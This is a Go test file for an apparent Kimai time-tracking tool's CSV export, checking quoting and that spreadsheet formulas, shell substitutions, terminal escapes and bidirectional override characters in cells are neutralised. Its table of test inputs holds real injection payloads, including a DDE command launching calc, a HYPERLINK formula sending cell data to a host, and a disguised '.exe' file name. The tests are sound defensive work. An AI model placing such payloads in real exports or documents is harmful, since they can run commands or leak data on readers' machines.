package export_test

import (
	"encoding/csv"
	"errors"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/google/go-cmp/cmp"

	"kimai-tray/kimai"
	"kimai-tray/tray/export"
)

func write(t *testing.T, drafts ...kimai.Draft) string {
	t.Helper()
	var b strings.Builder
	if err := export.CSV(&b, export.Records(drafts), berlin); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func TestCSV(t *testing.T) {
	const header = "number,what,refused,since,id,customer,project,task,description,tags,start,end,duration_seconds\r\n"
	const want = header +
		`3,new,,2026-01-15T09:45:00+01:00,-3,"Äcme, Inc.",Website,"The ""big"" one",the home page,"urgent, web",2026-01-15T09:00:00+01:00,2026-01-15T09:45:00+01:00,2700` + "\r\n" +
		`5,changed,,2026-01-15T10:00:00+01:00,71,,,,,,2026-01-15T09:50:00+01:00,,` + "\r\n" +
		`6,removed,Kimai refused: “locked”.,2026-01-15T10:01:00+01:00,72,,,,,,2026-01-15T08:00:00+01:00,2026-01-15T08:01:00+01:00,60` + "\r\n"
	if diff := cmp.Diff(want, write(t, drafts...)); diff != "" {
		t.Errorf("CSV (-want +got):\n%s", diff)
	}
	if got := write(t); got != header {
		t.Errorf("CSV of nothing is %q", got)
	}
}

type full struct{}

func (full) Write([]byte) (int, error) { return 0, errors.New("no space left") }

func TestCSVIsLost(t *testing.T) {
	if err := export.CSV(full{}, nil, berlin); err == nil || !strings.Contains(err.Error(), "no space left") {
		t.Errorf("error %v, want why", err)
	}
}

// hostile are texts that mean something to a spreadsheet, to a terminal or to
// whoever reads lines, with what is written of them.
var hostile = []struct{ name, in, want string }{
	{"equals", `=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
	{"plus", "+1+1", "'+1+1"},
	{"minus", "-2+3", "'-2+3"},
	{"at", "@SUM(1+1)", "'@SUM(1+1)"},
	{"tab", "\t=1+1", "'=1+1"},
	{"carriage return", "\r=1+1", "'=1+1"},
	{"blanks", " \u00a0\u3000 =1+1", "'=1+1"},
	{"what does not show", "\x00\u200b\ufeff=1+1", "'=1+1"},
	{"joiners", "\u200d\u0301=1+1", "'\u200d\u0301=1+1"},
	{"quotes", `"=1+1`, `'"=1+1`},
	{"apostrophe", `'=1+1`, `''=1+1`},
	{"full width equals", "＝1+1", "'＝1+1"},
	{"full width plus", "＋1", "'＋1"},
	{"full width minus", "－1", "'－1"},
	{"full width at", "＠A1", "'＠A1"},
	{"comma", "a,=1+1", "a,=1+1"},
	{"semicolons", "a;=1+1; ;@b;c", "a;'=1+1; ;'@b;c"},
	{"quotes that end", `a";=1+1;"`, `a";'=1+1;"`},
	{"lines", "a\n=1+1\r\n-b\u2028c", "a =1+1 -b c"},
	{"formula in the middle", "1 = 1 - 0", "1 = 1 - 0"},
	{"a link", `=HYPERLINK("http://x/?"&A1,"x")`, `'=HYPERLINK("http://x/?"&A1,"x")`},
	{"a flag", "--help", "'--help"},
	{"names", "R&D my_project __x__ &&", "R&D my_project __x__ &&"},
	{"markup", "<b>a</b> &lt;b&gt; ]]>", "<b>a</b> &lt;b&gt; ]]>"},
	{"shell", "$(calc) `calc` %s", "$(calc) `calc` %s"},
	{"script", `"; do shell script \074b`, `"; do shell script \074b`},
	{"colour", "a\x1b[31m\x1b]0;x\x07\u009b2J\x7f", "a[31m]0;x2J"},
	{"direction", "bill\u202egnp.exe\u2066\u2067\u2069\u200e\u061c", "billgnp.exe"},
	{"no width", "no\u200b\ufeff\u2060width", "nowidth"},
	{"tabs and NUL", "more\tof\x00 them", "more of them"},
	{"not UTF-8", "not\xff\xc3UTF-8\x9b31m", "not\ufffd\ufffdUTF-8\ufffd31m"},
	{"no characters", "a\ufffe\uffffb", "ab"},
	{"emoji", "👩\u200d💻 pair", "👩\u200d💻 pair"},
	{"endless", strings.Repeat("x", 10_000), strings.Repeat("x", 10_000)},
	{"marks", "a" + strings.Repeat("\u0301", 10_000), "a" + strings.Repeat("\u0301", 10_000)},
	{"nothing but blanks", " \r\n\t", ""},
}

// draft is one whose every word is that text.
func draft(s string) kimai.Draft {
	d := drafts[0]
	d.Record.Pair.Project.Name, d.Record.Pair.Project.Customer.Name, d.Record.Pair.Task.Name = s, s, s
	d.Record.Description, d.Record.Tags = s, []string{s}
	d.Refused = kimai.Errorf(kimai.Rejected, "%s", s)
	return d
}

// texts are the cells of the record's words.
func texts(t *testing.T, written string) []string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(written)).ReadAll()
	if err != nil || len(rows) != 2 || strings.Count(written, "\n") != 2 {
		t.Fatalf("%d rows, error %v in %.300q", len(rows), err, written)
	}
	row := rows[1]
	if given := slices.Concat(row[:2], row[3:5], row[10:]); !slices.Equal(given, []string{"3", "new", "2026-01-15T09:45:00+01:00", "-3",
		"2026-01-15T09:00:00+01:00", "2026-01-15T09:45:00+01:00", "2700"}) {
		t.Errorf("numbers and times are %q", given)
	}
	return slices.Concat(row[2:3], row[5:10])
}

func TestCSVHasNoFormulas(t *testing.T) {
	for _, test := range hostile {
		t.Run(test.name, func(t *testing.T) {
			for _, got := range texts(t, write(t, draft(test.in))) {
				if got != test.want {
					t.Errorf("%.100q is written as %.100q, want %.100q", test.in, got, test.want)
				}
			}
		})
	}
}

func FuzzCSV(f *testing.F) {
	for _, test := range hostile {
		f.Add(test.in[:min(len(test.in), 200)])
	}
	f.Fuzz(func(t *testing.T, in string) {
		written := write(t, draft(in))
		for _, text := range texts(t, written) {
			for cell := range strings.SplitSeq(text, ";") {
				if cell = strings.TrimLeft(cell, ` "`); cell != "" && strings.ContainsAny(cell[:1], "=+-@") {
					t.Errorf("%q is written as %q", in, text)
				}
			}
		}
		for _, r := range written {
			if unicode.IsControl(r) && r != '\r' && r != '\n' || unicode.Is(unicode.Bidi_Control, r) {
				t.Errorf("%U is in %q", r, written)
			}
		}
	})
}
